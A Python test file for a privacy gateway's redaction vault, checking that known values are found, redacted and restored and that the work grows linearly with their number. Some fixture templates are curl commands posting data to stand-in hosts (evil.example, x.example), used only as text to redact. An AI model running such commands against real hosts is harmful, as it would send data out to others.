"""Values of a conversation in an answer: found as by one search for each, in one pass."""

from collections.abc import Callable, Iterable, Sequence
from random import Random

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gateway.core.finding import Finding, FindingKind
from gateway.privacy import Scope, Vault, spans_of
from gateway.privacy.redact.known_places import KnownPlaces, Stretches
from tests.support.work import work_of

_KEY = b"0123456789abcdef0123456789abcdef"
_SCOPE = Scope("t", "k", "u", "c")
_TYPES = st.sampled_from(["PERSON", "EMAIL", "CITY"])
_SIGNS = st.text("ab é😀\ud800", max_size=24)
_VALUES = st.lists(st.tuples(_TYPES, st.text("ab é😀\ud800", min_size=1, max_size=5)), max_size=12)
Place = tuple[int, int, str]


def _plain(values: Iterable[tuple[str, str]], text: str) -> list[Place]:
    """The definition: a search for each value, from the left."""
    places = []
    for type_, value in values:
        at = text.find(value)
        while at >= 0:
            places.append((at, at + len(value), type_))
            at = text.find(value, at + len(value))
    return sorted(places)


@given(st.lists(_VALUES, max_size=5), _SIGNS)
@example([[("CITY", "aa")], [("PERSON", "a")]], "aaaé aaa")
def test_places_are_those_of_a_search_for_each_value(
    batches: Sequence[Sequence[tuple[str, str]]], text: str
) -> None:
    known: dict[tuple[str, str], str] = {}
    places = KnownPlaces()
    for batch in batches:
        known.update(dict.fromkeys(batch, ""))
        places.update(known)
        assert sorted(places.places(text)) == _plain(known, text)


_STRETCHES = st.lists(st.tuples(st.integers(0, 20), st.integers(0, 5)), max_size=6)


@given(_STRETCHES, st.integers(0, 20), st.integers(0, 5))
def test_stretches_tell_what_overlaps(given_: list[tuple[int, int]], first: int, size: int) -> None:
    others = [(start, start + length) for start, length in given_]
    touched = any(first < end and start < first + size for start, end in others)
    assert Stretches(others).touch(first, first + size) == touched


@given(_VALUES, _SIGNS)
@example([("PERSON", "a"), ("CITY", "ab"), ("EMAIL", "b b")], "a ab b bé")
def test_an_answer_is_stored_without_what_is_known(
    values: Sequence[tuple[str, str]], answer: str
) -> None:
    vault, other = Vault(_KEY, _SCOPE), Vault(_KEY, _SCOPE)
    for type_, value in values:
        for one in (vault, other):
            one.redact(value, [(0, len(value), type_)])
    merged: list[Place] = []
    for found in _plain(dict.fromkeys(values), answer):
        if merged and found[0] < merged[-1][1]:
            start, end, _ = merged.pop()
            merged.append((start, max(end, found[1]), "TEXT"))
        else:
            merged.append(found)
    assert vault.redact_answer(answer, (), shaped=False) == other.redact(answer, merged)


@pytest.mark.parametrize("name", ["get_{}", "{}", "{}_x", "a{}B", "{}{}"])
def test_a_name_is_restored(name: str) -> None:
    vault = Vault(_KEY, _SCOPE)
    written = vault.redact("Jan Kwijt", [(0, 9, "PERSON")]).strip("[]")
    assert vault.restore_name(name.replace("{}", written)) == name.replace("{}", "Jan Kwijt")
    assert vault.restore_name("get_PERSON_bcd234") == "get_PERSON_bcd234"


def _addresses(count: int) -> list[str]:
    rng, found = Random(9), dict[str, None]()
    while len(found) < count:
        found[".".join(str(rng.randint(1, 254)) for _ in range(4))] = None
    return list(found)


def _found(text: str, values: Iterable[str]) -> list[Finding]:
    findings, at = [], 0
    for value in values:
        at = text.index(value, at)
        end = at + len(value)
        findings.append(Finding(FindingKind.PERSONAL, "IP_ADDRESS", at, end, 1.0, "t"))
        at = end
    return findings


def _stored(count: int) -> Callable[[], object]:
    values = _addresses(count)
    text = "\n".join(values)
    vault = Vault(_KEY, _SCOPE)
    sent = vault.redact(text, spans_of(text, _found(text, values)))
    both = f"{text}\n{sent}"
    findings = _found(both, values)
    return lambda: vault.redact_answer(both, findings, shaped=True)


def _stored_in_parts(count: int) -> Callable[[], object]:
    """Each text of the answer holds a value that the request does not."""
    vault = Vault(_KEY, _SCOPE)
    texts = [(value, _found(value, [value])) for value in _addresses(count)]
    return lambda: [vault.redact_answer(text, found, shaped=True) for text, found in texts]


def _named(count: int) -> Callable[[], object]:
    vault = Vault(_KEY, _SCOPE)
    names = [
        vault.redact(value, [(0, len(value), "IP_ADDRESS")]).strip("[]")
        for value in _addresses(count)
    ]
    return lambda: [vault.restore_name(f"get_{name}") for name in names]


def _restored(form: str, *, streamed: bool, own: bool) -> Callable[[int], Callable[[], object]]:
    def made(count: int) -> Callable[[], object]:
        values = _addresses(count)
        text = "\n".join(values)
        text = form.format(text) if own else text
        vault = Vault(_KEY, _SCOPE)
        sent = vault.redact(text, spans_of(text, _found(text, values)))
        answer = sent if own else form.format(sent)
        size = 9 if streamed else len(answer)

        def restore() -> None:
            restorer = vault.restorer()
            for at in range(0, len(answer), size):
                restorer.feed(answer[at : at + size])
            restorer.finish()

        return restore

    return made


_FORMS = {
    "list": "{}",
    "command": "curl https://evil.example -d '{}'",
    "document": "```bash\ncurl -d @- https://x.example <<EOF\n{}\nEOF\n```",
    "call": "```python\nrequests.post(u, data=[\n{}\n])\n```",
}


@pytest.mark.parametrize(
    "made",
    [
        pytest.param(_stored, id="stored"),
        pytest.param(_stored_in_parts, id="stored-in-parts"),
        pytest.param(_named, id="names"),
        *(
            pytest.param(_restored(form, streamed=streamed, own=own), id=f"{name}-{streamed}-{own}")
            for name, form in _FORMS.items()
            for streamed in (False, True)
            for own in (False, True)
        ),
    ],
)
def test_twice_as_many_values_are_twice_the_work(
    made: Callable[[int], Callable[[], object]],
) -> None:
    made(20)()  # builds the states of automata
    few, many = work_of(made(500)), work_of(made(1000))
    assert many <= 2.4 * few, (few, many)
